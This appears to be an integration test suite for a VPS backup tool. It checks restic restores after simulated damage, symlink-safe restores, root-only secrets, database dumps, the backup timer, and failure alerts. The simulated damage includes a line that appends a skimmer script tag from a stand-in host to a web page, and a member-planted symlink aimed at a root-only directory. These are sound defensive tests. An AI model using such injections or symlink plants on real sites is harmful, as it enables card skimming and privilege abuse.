# Copyright: vps-baseline contributors
# SPDX-License-Identifier: MIT
"""BK-01..BK-03 (issue #13 part 1) on the Debian 12 and 13 cloud hosts converged over SSH by
site.yml, backing up to op-target (OpenSSH's SFTP only, on op-net) with restic. The admin runs
the backup and the restore over SSH as `debian` with sudo, as the README says; the damage (a
deleted directory, a corrupted file, a tampered page, a mode, a group and an ACL changed) is done
as root over docker exec, as a mistake or an intruder would. The hosts are observed as root over
docker exec. The files made here are removed at the end and accepted by FIM (test_operator.py's
audit expects no drift), and the last backup is a successful one (BK-03)."""

import json
import os
import shlex
import time
from pathlib import Path

import pytest
import testinfra
from testlib import PROJECT, ansible_playbook, output_text, ssh_from_controller, tree_manifest

HOSTS = {"op-debian12": "10.47.116.12", "op-debian13": "10.47.116.13"}
EPHEMERAL = Path(os.environ["MOLECULE_EPHEMERAL_DIRECTORY"])
KEY = EPHEMERAL / "op_controller_key"
DOCROOT = "/var/www/html"
DOCS = f"{DOCROOT}/bk-docs"
PAGE = f"{DOCROOT}/bk-page.html"
DATA = f"{DOCROOT}/bk-data.bin"
UPLOAD = f"{DOCROOT}/uploads/bk-upload.txt"
# wuser2's SFTP jail (SSH-02): its team directory below the docroot, bind-mounted into the jail.
JAILED = "wuser2"
JAIL_SITE = "/srv/jail/wuser2/site"
JAIL_SOURCE = f"{DOCROOT}/ir"
COMMAND = "/usr/local/sbin/vps-backup"
STAMP = "/var/lib/vps-baseline/backup/last-success"
TIMER_DROPIN = "/etc/systemd/system/vps-backup.timer.d/zz-test.conf"
MARKER = "bk-plaintext-marker-7f3a"



def root(name):
    return testinfra.get_host(f"docker://{name}")


def admin(name, command):
    """A command as the admin over SSH (debian, sudo), as the README's restore says."""
    return ssh_from_controller(HOSTS[name], "debian", KEY, f"sudo -n {command}")


def jail_shows(host):
    """The directory mounted at the jailed member's site (findmnt's FSROOT), or None."""
    shown = host.run(f"findmnt -rn -o FSROOT --mountpoint {JAIL_SITE}")
    return shown.stdout.strip() or None


def manifest(host):
    return tree_manifest(host, DOCROOT)


def snapshots(name):
    result = admin(name, f"{COMMAND} snapshots --json")
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


@pytest.fixture(scope="module")
def site(request):
    """A small site on each host: a directory of pages, a page, a binary file, an upload (the
    web server's writable place: its own ACL), all in the team group as DR-03 wants them."""
    for name in HOSTS:
        host = root(name)
        host.run_expect([0], f"install -d -g workgroup -m 2775 {DOCS} {DOCS}/sub")
        host.run_expect([0], f"install -d -o www-data -g workgroup -m 2775 {DOCROOT}/uploads")
        host.run_expect([0], f"for i in $(seq 1 40); do echo \"page $i {MARKER}\" > {DOCS}/p$i.html; done; "
                             f"echo deep > {DOCS}/sub/deep.html; echo '<h1>{MARKER}</h1>' > {PAGE}; "
                             f"head -c 200000 /dev/urandom > {DATA}; echo upload > {UPLOAD}; "
                             f"chgrp -R workgroup {DOCS} {PAGE} {DATA} {UPLOAD}; "
                             f"find {DOCS} {PAGE} {DATA} {UPLOAD} -type f -exec chmod 0664 {{}} +")
    time.sleep(1)  # DR-05's watcher settles what it sees
    yield
    for name in HOSTS:
        host = root(name)
        host.run_expect([0], f"rm -rf {DOCS} {PAGE} {DATA} {DOCROOT}/uploads {DOCROOT}.before-restore.*")
        time.sleep(1)
        host.run_expect([0], "/usr/local/sbin/vps-integrity accept")
        # BK-03: the last backup is a successful one, after the test's changes.
        assert admin(name, f"{COMMAND} run").returncode == 0


@pytest.mark.parametrize("name", sorted(HOSTS))
def test_bk01_restore_after_damage_gives_back_every_hash_mode_group_and_acl(name, site):
    host = root(name)
    before = manifest(host)
    # The ACL of the upload and of the code are there to be kept (DR-06, docroot_web_writable).
    assert before["uploads"][5] and before["bk-page.html"][5], before["bk-page.html"]
    backup = admin(name, f"{COMMAND} run")
    assert backup.returncode == 0, backup.stdout + backup.stderr
    first = snapshots(name)[-1]["short_id"]

    # The damage: a deleted directory, a corrupted file, a tampered page, a mode, a group, an ACL.
    host.run_expect([0], f"rm -rf {DOCS}")
    host.run_expect([0], f"dd if=/dev/urandom of={DATA} bs=1k count=4 seek=10 conv=notrunc status=none")
    host.run_expect([0], f"echo '<script src=//skim.example/x.js></script>' >> {PAGE}")
    host.run_expect([0], f"chgrp root {UPLOAD} && chmod 0600 {UPLOAD}")
    host.run_expect([0], "python3 -c \"import os; os.removexattr('%s', 'system.posix_acl_access')\"" % f"{DOCROOT}/index.html")
    assert manifest(host) != before

    # The whole site from the latest snapshot, one command.
    assert jail_shows(host) == JAIL_SOURCE
    restored = admin(name, f"{COMMAND} restore")
    assert restored.returncode == 0, restored.stdout + restored.stderr
    # The jailed member no longer writes into the kept copy (the bind mount followed the renamed
    # tree): its jail is empty and root's until site.yml's SSH-02 mounts the restored directory.
    assert "run site.yml --tags ssh-02" in restored.stdout, restored.stdout
    assert jail_shows(host) is None, host.check_output("findmnt -rn -o TARGET,FSROOT")
    assert host.run(f"{AS_JAILED} 'echo x > {JAIL_SITE}/after-restore.txt'").rc != 0
    assert host.run(f"ls {DOCROOT}.before-restore.*/ir/after-restore.txt").rc != 0
    after = manifest(host)
    assert sorted(set(before) ^ set(after)) == []
    assert {p: (before[p], after[p]) for p in before if before[p] != after[p]} == {}

    # One file from an older generation: the tampered page saved in a second snapshot, then the
    # page from the first one.
    host.run_expect([0], f"echo tampered >> {PAGE}")
    assert admin(name, f"{COMMAND} run").returncode == 0
    assert len(snapshots(name)) >= 2
    one = admin(name, f"{COMMAND} restore --snapshot {first} --path {PAGE}")
    assert one.returncode == 0, one.stdout + one.stderr
    assert manifest(host)["bk-page.html"] == before["bk-page.html"]


# A member's shell, with the team group (members write the whole docroot: DR-03).
AS_MEMBER = "setpriv --reuid=wuser1 --regid=workgroup --init-groups -- sh -c"
AS_JAILED = f"setpriv --reuid={JAILED} --regid=workgroup --init-groups -- sh -c"
OUTSIDE = "/var/tmp/bk-outside"


@pytest.mark.parametrize("name", sorted(HOSTS))
def test_bk01_restore_never_writes_through_a_symlink_a_member_planted(name, site):
    """The restore runs as root on a tree members and the web server write. A member replaces a
    directory of the site with a symlink to a root-only place outside it: restic's in-place
    restore (`--target /`) wrote the snapshot's files through it as root. Now the path restore
    refuses the symlinked parent, and the whole-site restore renames the planted tree aside
    (kept, root only) and puts the restored one in its place: nothing is written outside."""
    host = root(name)
    assert admin(name, f"{COMMAND} run").returncode == 0
    host.run_expect([0], f"rm -rf {OUTSIDE} && install -d -m 0700 {OUTSIDE}")
    host.run_expect([0], f"{AS_MEMBER} 'rm -rf {DOCS} && ln -s {OUTSIDE} {DOCS}'")
    assert host.file(DOCS).is_symlink

    one = admin(name, f"{COMMAND} restore --path {DOCS}/p1.html")
    assert one.returncode != 0 and "is not a directory" in one.stdout + one.stderr, one.stdout + one.stderr
    assert host.check_output(f"ls -A {OUTSIDE}") == ""

    whole = admin(name, f"{COMMAND} restore")
    assert whole.returncode == 0, whole.stdout + whole.stderr
    assert host.check_output(f"ls -A {OUTSIDE}") == ""
    assert host.file(DOCS).is_directory and not host.file(DOCS).is_symlink
    assert MARKER in host.file(f"{DOCS}/p1.html").content_string
    kept = host.check_output(f"ls -d {DOCROOT}.before-restore.*").split()
    assert kept and all(host.file(k).mode == 0o700 for k in kept), kept
    assert host.file(f"{kept[-1]}/bk-docs").is_symlink  # the planted link, kept as evidence
    host.run_expect([0], f"rm -rf {DOCROOT}.before-restore.* {OUTSIDE}")


def test_bk01_after_a_whole_site_restore_site_yml_gives_the_jail_the_restored_site(site):
    """What the restore prints, done: `site.yml --tags ssh-02` mounts the restored directory into
    the jail, and the jailed member's writes land in the live site again (not in a kept copy)."""
    remount = ansible_playbook(PROJECT / "playbooks/site.yml", "baseline", tags=["ssh-02"])
    assert remount.returncode == 0, remount.stdout[-3000:]
    for name in HOSTS:
        host = root(name)
        assert jail_shows(host) == JAIL_SOURCE
        host.run_expect([0], f"{AS_JAILED} 'echo back > {JAIL_SITE}/bk-jail.txt'")
        assert host.file(f"{JAIL_SOURCE}/bk-jail.txt").content_string == "back\n"
        host.run_expect([0], f"rm -f {JAIL_SOURCE}/bk-jail.txt")


@pytest.mark.parametrize("name", sorted(HOSTS))
def test_bk01_secrets_root_only_and_nothing_readable_on_the_target(name, site):
    host = root(name)
    for path in ("/etc/vps-backup/password", "/etc/vps-backup/id_target"):
        f = host.file(path)
        assert (f.user, f.group, f.mode) == ("root", "root", 0o600), path
    assert host.file("/etc/vps-backup").mode == 0o700
    assert host.run("runuser -u www-data -- cat /etc/vps-backup/password").rc != 0
    # Nothing of the site nor the password in clear on the target, nor in the journal.
    target = testinfra.get_host("docker://op-target")
    found = target.run(f"grep -rl -e {MARKER} -e op-test-repository-password /srv/backup/{name}")
    assert found.rc == 1 and found.stdout == "", found.stdout
    assert target.file(f"/srv/backup/{name}/config").exists
    journal = host.check_output("journalctl --no-pager -t vps-backup")
    assert "op-test-repository-password" not in journal


# BK-01's database dump (backup_dump_commands in molecule.yml): a SQLite database owned by the
# unprivileged account vpstest (prepare.yml), dumped as that account before each backup.
DB = "/var/lib/vps-test/site.db"
DUMPS = "/var/backups/vps-baseline/dumps"
DUMP = f"{DUMPS}/site-db.sql"


def as_app(name, command):
    """A command as the database's account, run by the admin over SSH (sudo -u vpstest)."""
    return admin(name, f"-u vpstest {command}")


def wait_idle(name):
    """No backup running (a timer's run would be joined by `systemctl start`)."""
    deadline = time.monotonic() + 120
    while root(name).check_output("systemctl show --property=ActiveState --value vps-backup.service") == "activating":
        assert time.monotonic() < deadline, f"{name}: vps-backup.service still running after 120 s"
        time.sleep(2)


@pytest.mark.parametrize("name", sorted(HOSTS))
def test_bk01_database_dump_in_the_snapshot_equals_a_dump_now(name, site):
    """The application adds a row; a backup; the dump file of the latest snapshot, restored with
    the documented command into a new scratch directory, equals `sqlite3 DB .dump` run now. The
    dump is root's 0600 in a 0700 directory: the account that made it cannot read it back."""
    host = root(name)
    token = f"bk-dump-{name}-{time.time_ns()}"
    added = as_app(name, f"sqlite3 {DB} " + shlex.quote(f"INSERT INTO posts (title, body) VALUES ('{token}', 'row')"))
    assert added.returncode == 0, added.stderr
    try:
        backup = admin(name, f"{COMMAND} run")
        assert backup.returncode == 0, backup.stdout + backup.stderr
        assert "dump site-db (as vpstest)" in backup.stdout, backup.stdout
        f = host.file(DUMP)
        assert (f.user, f.group, f.mode) == ("root", "root", 0o600)
        assert host.file(DUMPS).mode == 0o700 and host.file(DUMPS).user == "root"
        assert as_app(name, f"cat {DUMP}").returncode != 0
        assert host.run(f"ls -A {DUMPS}").stdout.split() == ["site-db.sql"]  # no temporary file left

        scratch = f"/var/tmp/bk-dump-restore-{time.time_ns()}"
        restored = admin(name, f"{COMMAND} restore --path {DUMP} --target {scratch}")
        assert restored.returncode == 0, restored.stdout + restored.stderr
        assert host.file(scratch).mode == 0o700 and host.file(scratch).user == "root"
        saved = host.run(f"cat {scratch}{DUMP}")
        assert saved.rc == 0, saved.stderr
        now = as_app(name, f"sqlite3 {DB} .dump")
        assert now.returncode == 0, now.stderr
        assert token in saved.stdout and "CREATE TABLE posts" in saved.stdout, saved.stdout[-2000:]
        assert saved.stdout == now.stdout
        host.run_expect([0], f"rm -rf {scratch}")
    finally:
        as_app(name, f"sqlite3 {DB} " + shlex.quote(f"DELETE FROM posts WHERE title = '{token}'"))


@pytest.mark.parametrize("name", sorted(HOSTS))
def test_bk01_failed_dump_fails_the_backup_and_is_named_in_the_journal(name, site):
    """The database cannot be read by its account (made unreadable as root, as a broken or
    moved database would be): the service's run fails, the journal names the dump, and the last
    good dump is kept, never replaced by a partial one. Readable again, the next run succeeds."""
    host = root(name)
    good = host.run(f"cat {DUMP}").stdout
    assert "CREATE TABLE posts" in good
    mode = host.file(DB).mode
    wait_idle(name)
    since = host.check_output("date '+%F %T'")
    host.run_expect([0], f"chmod 0000 {DB}")
    try:
        started = admin(name, "systemctl start vps-backup.service")
        assert started.returncode != 0, started.stdout
        assert host.run("systemctl is-failed vps-backup.service").stdout.strip() == "failed"
        journal = ""
        for _ in range(20):
            journal = host.check_output(f"journalctl --no-pager -t vps-backup --since '{since}'")
            if "database dump failed: site-db" in journal:
                break
            time.sleep(0.5)
        assert "dump site-db (as vpstest) failed" in journal, journal
        assert "database dump failed: site-db" in journal, journal
        assert host.run(f"cat {DUMP}").stdout == good
        assert host.run(f"ls -A {DUMPS}").stdout.split() == ["site-db.sql"]
    finally:
        host.run_expect([0], f"chmod {mode:o} {DB}")
    again = admin(name, "systemctl start vps-backup.service")
    assert again.returncode == 0, again.stdout + again.stderr
    assert host.run("systemctl is-failed vps-backup.service").stdout.strip() != "failed"


def test_bk02_the_timer_fires_and_saves(site):
    """The interval shortened to 15 s by a drop-in (the test's only change to the unit): the
    timer starts the service by itself, a new snapshot is made and the stamp moves."""
    before = {}
    for name in HOSTS:
        host = root(name)
        before[name] = (host.file(STAMP).content_string, len(snapshots(name)))
        host.run_expect([0], f"mkdir -p {os.path.dirname(TIMER_DROPIN)} && printf '%s\\n' '[Timer]' "
                             f"'OnCalendar=' 'OnCalendar=*:*:0/15' 'RandomizedDelaySec=0' 'AccuracySec=1s' > {TIMER_DROPIN} "
                             "&& systemctl daemon-reload && systemctl restart vps-backup.timer")
    try:
        deadline = time.monotonic() + 60
        fired = {}
        while time.monotonic() < deadline and len(fired) < len(HOSTS):
            time.sleep(3)
            for name in HOSTS:
                if name not in fired and root(name).file(STAMP).content_string != before[name][0]:
                    fired[name] = True
        assert sorted(fired) == sorted(HOSTS), "the timer did not start a successful backup within 60 s"
    finally:
        for name in HOSTS:
            root(name).run_expect([0], f"rm -f {TIMER_DROPIN} && systemctl daemon-reload && systemctl restart vps-backup.timer")
    for name in HOSTS:
        host = root(name)
        # Started by the timer (its last trigger), and a new snapshot on the target.
        trigger = host.check_output("systemctl show --property=LastTriggerUSec --value vps-backup.timer")
        assert trigger and trigger != "n/a", trigger
        journal = host.check_output("journalctl --no-pager -t vps-backup -n 5")
        assert "backup done in" in journal, journal
        assert host.service("vps-backup.timer").is_enabled
        # The drop-in is gone: the inventory's schedule again.
        assert "daily" in host.check_output("systemctl cat vps-backup.timer")
        assert "0/15" not in host.check_output("systemctl cat vps-backup.timer")


def test_bk03_failed_backup_in_the_journal_and_drift_in_the_audit(site):
    """The target refuses the key: the service fails, the journal says so, the audit of BK-03
    exits 2 with BK-03 drift and site.yml --tags bk-03 backs up again once the target is back."""
    target = testinfra.get_host("docker://op-target")
    keys = "/home/vpsbackup/.ssh/authorized_keys"
    # A run the 15 s timer of test_bk02 started may still be going (its SSH session already open):
    # `systemctl start` would join that job and report its success. Wait until none is running.
    for name in HOSTS:
        deadline = time.monotonic() + 120
        while root(name).check_output("systemctl show --property=ActiveState --value vps-backup.service") == "activating":
            assert time.monotonic() < deadline, f"{name}: vps-backup.service still running after 120 s"
            time.sleep(2)
    target.run_expect([0], f"mv {keys} {keys}.off")
    try:
        for name in HOSTS:
            host = root(name)
            assert host.run("systemctl start vps-backup.service").rc != 0
            assert host.run("systemctl is-failed vps-backup.service").stdout.strip() == "failed"
            journal = host.check_output("journalctl --no-pager -t vps-backup -n 30")
            assert "Permission denied" in journal or "unable to open" in journal or "error" in journal.lower(), journal
        audit = ansible_playbook(PROJECT / "playbooks/audit.yml", "baseline", check=True, tags=["bk-03"])
        assert audit.returncode == 2, audit.stdout[-3000:]
        text = output_text(audit)
        for name in HOSTS:
            assert f"Drift on {name}: BK-03." in text, text[-3000:]
        assert "failed (status" in text
    finally:
        target.run_expect([0], f"mv {keys}.off {keys}")
    site = ansible_playbook(PROJECT / "playbooks/site.yml", "baseline", tags=["bk-03"])
    assert site.returncode == 0, site.stdout[-3000:]
    for name in HOSTS:
        assert root(name).run("systemctl is-failed vps-backup.service").stdout.strip() != "failed"
